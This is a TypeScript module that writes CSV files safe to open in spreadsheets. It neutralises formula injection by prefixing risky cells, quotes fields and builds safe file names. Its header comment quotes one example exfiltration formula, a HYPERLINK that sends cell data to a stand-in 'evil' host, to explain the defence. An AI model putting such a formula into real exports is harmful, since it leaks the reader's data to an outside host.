/**
 * CSV export that a spreadsheet opens safely: RFC 4180 quoting, CRLF line ends, a UTF-8 byte order mark
 * (without it Excel reads the file in the local ANSI code page and mangles Arabic, CJK and emoji), and no
 * cell that a spreadsheet would run as a formula.
 *
 * Formula injection (OWASP "CSV Injection", CWE-1236, ASVS 1.2.10): a text cell that starts with `=`, `+`,
 * `-` or `@` is evaluated as a formula by Excel, LibreOffice and Google Sheets, so a credit description
 * such as `=HYPERLINK("http://evil/?"&A1)` would run on the reader's machine. Such cells get a leading
 * single quote, which spreadsheets take as "this is text". Also prefixed:
 * - a leading tab, carriage return or NUL (OWASP/ASVS list them: some importers drop them and then see
 *   the formula character behind them);
 * - leading whitespace followed by a trigger (" =1+1"). Typed into Excel, " =1+1" is text, so one could
 *   argue it is harmless; but the import path is not the typing path: LibreOffice's CSV import has a
 *   "Trim spaces" option, Google Sheets trims cells on import, and CSV→XLSX converters commonly trim, after
 *   which "=1+1" is evaluated. We cannot verify every reader, and the cost of the prefix is one visible
 *   quote on a cell that was odd anyway, so we prefix (any Unicode whitespace: \s covers NBSP and U+3000);
 * - the full-width forms ＝ ＋ － ＠ (U+FF1D, U+FF0B, U+FF0D, U+FF20), which East Asian Excel locales
 *   treat like their ASCII counterparts.
 * Numbers are written as numbers, unprefixed: -5 is a negative number, not a formula. Only STRING cells
 * are checked, so callers must pass money as a number, not as text: as a `csvDecimal` (the exact text in the
 * currency's own decimals, `732.60`, as the JSON export writes it), since a JS number loses trailing zeros
 * (`732.6`) and a string would be taken for a formula when negative (`'-5.00`).
 *
 * Known limit (OWASP www-community issue #517): if someone opens the file in Excel and saves it as CSV
 * again, Excel drops the quote, and the re-saved file is unsafe. Nothing in the CSV itself can prevent that.
 */
import type { Cell } from './table';

/** Money for a CSV cell: its exact decimal text, written as a number (see the header). */
export interface CsvDecimal {
  readonly decimal: string;
}

/** A cell of toCsv: a sheet cell, or money in the currency's decimals. */
export type CsvCell = Cell | CsvDecimal;

const DECIMAL = /^-?\d+(\.\d+)?$/;

/** `formatMinor`'s text as a CSV number; anything that is not a plain decimal is a caller bug and throws. */
export function csvDecimal(text: string): CsvDecimal {
  if (!DECIMAL.test(text))
    throw new Error(`CSV money must be a decimal like 732.60, not ${JSON.stringify(text)}`);
  return { decimal: text };
}

const BOM = '\uFEFF';
const CRLF = '\r\n';

/** Leading characters that are prefixed on their own. */
const HIDDEN_LEAD = /^[\t\r\0]/;
/** A formula trigger, possibly behind whitespace. */
const FORMULA_LEAD = /^\s*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/;
/** Fields with these must be quoted (RFC 4180 §2.6). */
const NEEDS_QUOTES = /[",\r\n]/;

/** The text a spreadsheet will show for a string cell: prefixed with `'` when it could start a formula. */
export function sanitizeCell(value: string): string {
  return HIDDEN_LEAD.test(value) || FORMULA_LEAD.test(value) ? `'${value}` : value;
}

/** One cell as CSV field text, before quoting. Non-finite numbers (a bug upstream) become empty cells. */
function cellText(cell: CsvCell | undefined): string {
  if (cell === null || cell === undefined) return '';
  if (typeof cell === 'object') return cell.decimal;
  if (typeof cell === 'number') return Number.isFinite(cell) ? String(cell) : '';
  if (typeof cell === 'boolean') return cell ? 'TRUE' : 'FALSE';
  return sanitizeCell(String(cell));
}

function field(cell: CsvCell | undefined): string {
  const t = cellText(cell);
  return NEEDS_QUOTES.test(t) ? `"${t.replace(/"/g, '""')}"` : t;
}

/**
 * The whole file: BOM, header line, one line per row, every line ending in CRLF. Short rows are padded
 * with empty fields so every record has the header's field count (RFC 4180 §2.4); a row longer than the
 * headers is a caller bug and throws rather than silently dropping or misaligning cells.
 */
export function toCsv(headers: string[], rows: CsvCell[][]): string {
  const width = headers.length;
  const lines: string[] = [headers.map(field).join(',')];
  rows.forEach((row, i) => {
    if (row.length > width)
      throw new Error(`CSV row ${i + 1} has ${row.length} cells but there are only ${width} headers`);
    const fields: string[] = [];
    for (let c = 0; c < width; c++) fields.push(field(row[c]));
    lines.push(fields.join(','));
  });
  return BOM + lines.join(CRLF) + CRLF;
}

/** Characters Windows forbids in file names (macOS forbids `/` and `:` too), plus control characters. */
// eslint-disable-next-line no-control-regex
const ILLEGAL_IN_FILENAME = /[<>:"/\\|?*\u0000-\u001F\u007F]/g;
const WINDOWS_RESERVED = /^(con|prn|aux|nul|com\d|lpt\d)$/i;
/** Names stay well inside the 255-byte limit of macOS/Linux and leave room for a long folder path on Windows. */
const MAX_STEM_BYTES = 150;

function utf8Length(codePoint: number): number {
  return codePoint < 0x80 ? 1 : codePoint < 0x800 ? 2 : codePoint < 0x10000 ? 3 : 4;
}

function utf8Bytes(text: string): number {
  let bytes = 0;
  for (const ch of text) bytes += utf8Length(ch.codePointAt(0) as number);
  return bytes;
}

/** Keeps whole code points (never half an emoji) so the result, ellipsis included, fits in `maxBytes` of UTF-8. */
function capBytes(text: string, maxBytes: number): string {
  if (utf8Bytes(text) <= maxBytes) return text;
  const ellipsis = '…'; // 3 bytes
  let bytes = 0;
  let out = '';
  for (const ch of text) {
    bytes += utf8Length(ch.codePointAt(0) as number);
    if (bytes > maxBytes - 3) break;
    out += ch;
  }
  return out.trimEnd() + ellipsis;
}

function cleanPart(part: string): string {
  return String(part ?? '')
    .replace(/\s+/g, ' ') // tabs and newlines read as spaces, before other control characters become _
    .replace(ILLEGAL_IN_FILENAME, '_')
    .trim()
    .replace(/^[.\s]+|[.\s]+$/g, ''); // no hidden (".x") names, and Windows drops trailing dots and spaces
}

/**
 * A safe download name such as `Credits - status=ASSIGNED - 2026-11-26.csv`: illegal characters become
 * `_`, the descriptive parts are capped so the date and extension always survive, and an empty result
 * falls back to `export`.
 */
export function csvFilename(parts: string[], date: string, extension = 'csv'): string {
  const ext = cleanPart(extension).replace(/[^A-Za-z0-9]/g, '') || 'csv';
  const day = capBytes(cleanPart(date), 40);
  const suffix = day ? ` - ${day}` : '';
  const described = capBytes(
    parts
      .map(cleanPart)
      .filter((p) => p !== '')
      .join(' - '),
    MAX_STEM_BYTES - utf8Bytes(suffix) - ext.length - 1,
  );
  let stem = described ? described + suffix : day;
  if (!stem) stem = 'export';
  if (WINDOWS_RESERVED.test(stem)) stem = `_${stem}`;
  return `${stem}.${ext}`;
}
